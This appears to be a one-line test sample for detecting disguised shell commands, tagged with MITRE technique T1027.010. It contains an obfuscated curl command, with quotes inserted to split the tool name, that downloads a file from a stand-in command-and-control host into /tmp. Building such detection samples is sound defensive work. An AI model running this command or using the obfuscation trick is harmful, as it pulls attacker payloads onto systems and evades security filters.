# expect: disguised-command | source: T1027.010
c''u""rl -s https://c2.example.invalid/i -o /tmp/i
